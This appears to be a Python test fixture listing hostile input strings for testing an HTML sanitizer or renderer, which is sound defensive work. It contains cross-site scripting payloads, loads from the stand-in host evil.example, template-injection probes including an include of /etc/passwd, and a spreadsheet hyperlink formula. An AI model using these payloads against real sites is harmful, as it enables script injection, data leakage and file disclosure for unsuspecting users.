"""Texts that try to become more than text: each would call `alert`, or ask for a file."""

from __future__ import annotations

__all__ = ["HOSTILE"]

SCRIPTS = r"""
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/random>alert(1)</script >
<script	type="text/javascript">alert(1);</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
</td></tr></table><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</textarea><script>alert(1)</script>
</noscript><script>alert(1)</script>
</template><script>alert(1)</script>
</select><script>alert(1)</script>
</script><script>alert(1)</script>
</SCRIPT ><img src=x onerror=alert(1)>
</script><!--
<!--<script>
<!-- --!><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<!DOCTYPE html><html><body onload=alert(1)>
<?xml version="1.0"?><script>alert(1)</script>
<script type="module">import "https://evil.example/x.js"</script>
<script type="application/json">{"a": 1}</script>
"];alert(1);//
';alert(1);//
\";alert(1);//
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
*/alert(1)/*
`+alert(1)+`
${alert(1)}
"""

HANDLERS = r"""
<img src=x onerror=alert(1)>
<img src="https://evil.example/pixel.png">
<img srcset="https://evil.example/pixel.png 2x">
<IMG SRC=`javascript:alert(1)`>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus="alert(1)
" onfocus=alert(1) tabindex=0 x="
x onerror=alert(1)
`onmouseover=alert(1)
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<div onpointerenter=alert(1)>look</div>
<p style="animation: x" onanimationstart=alert(1)>
<button popovertarget=x>b</button><div popover id=x onbeforetoggle=alert(1)>
<a href=x accesskey=x onclick=alert(1)>
&quot; onmouseover=&quot;alert(1)
&#34; onmouseover=&#34;alert(1)
&lt;img src=x onerror=alert(1)&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
"""

ADDRESSES = r"""
javascript:alert(1)
JaVaScRiPt:alert(1)
java	script:alert(1)
data:text/html,<script>alert(1)</script>
data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+
vbscript:msgbox(1)
<a href="javascript:alert(1)">click</a>
<form action="javascript:alert(1)"><button>go</button></form>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=prefetch href="https://evil.example/x">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>@import "https://evil.example/x.css";</style>
<style>*{display:none}</style>
<div style="background:url(https://evil.example/x.png)">
x;background:url(https://evil.example/x.png)
#"><img src=x onerror=alert(1)>
//evil.example/x
https://evil.example/?a=1&b=2
"""

TEMPLATES = r"""
{{ 7 * 7 }}
{{ self.__init__.__globals__ }}
{{ config }}
{% for x in range(9) %}x{% endfor %}
{% include "/etc/passwd" %}
{# comment #}
{{ "<script>alert(1)</script>" | safe }}
{%- endblock -%}
%(text)s %s %d {0} {text} {}
$name ${name}
<%= 7 * 7 %>
#{7 * 7}
[[ 7 * 7 ]]
"""

FOREIGN = r"""
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<svg><image href="https://evil.example/x.png"/></svg>
<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>
</text></svg><script>alert(1)</script>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">click</math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<xmp><script>alert(1)</script></xmp>
<plaintext>
<form id=document><input name=querySelector></form>
<img name=getElementById>
<input id=__proto__ name=constructor>
"""

CHARACTERS = [
    "NUL \x00<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "bell \x07, escape \x1b[31mred\x1b[0m, delete \x7f",
    "vertical tab \x0b and form feed \x0c<b>",
    "next line \x85, line separator \u2028alert(1)\u2029 and paragraph separator",
    "right to left \u202e>tpircs/<)1(trela>tpircs< \u202c and back",
    "isolate \u2067\u05d0\u05d1\u05d2 never closed",
    "zero width \u200b<\u200bscript\u200d>\u2060\ufeff",
    "soft\u00adhyphen and tag \U000e0041\U000e007f",
    "full width \uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\ufffe\uffff non-characters \U0001fffe",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1fa\U0001f1e6 \u2764\ufe0f",
    "Zalgo: " + "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 20,
    "\u0623\u0647\u0644\u0627 \u05e9\u05dc\u05d5\u05dd \u0928\u092e\u0938\u094d\u0924\u0947 \u4f60",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "W" * 5000,
    "\u5317" * 2000,
    "under_score-" * 400,
    '=HYPERLINK("https://evil.example","click")',
    "a" + " " * 500 + "b",
    "\\",
    "&",
    "&amp;amp;&nbsp;&#0;&#xD800;",
    "\"'<>&`=/",
]

HOSTILE = [
    text
    for block in (SCRIPTS, HANDLERS, ADDRESSES, TEMPLATES, FOREIGN)
    for text in block.strip("\n").split("\n")
] + CHARACTERS
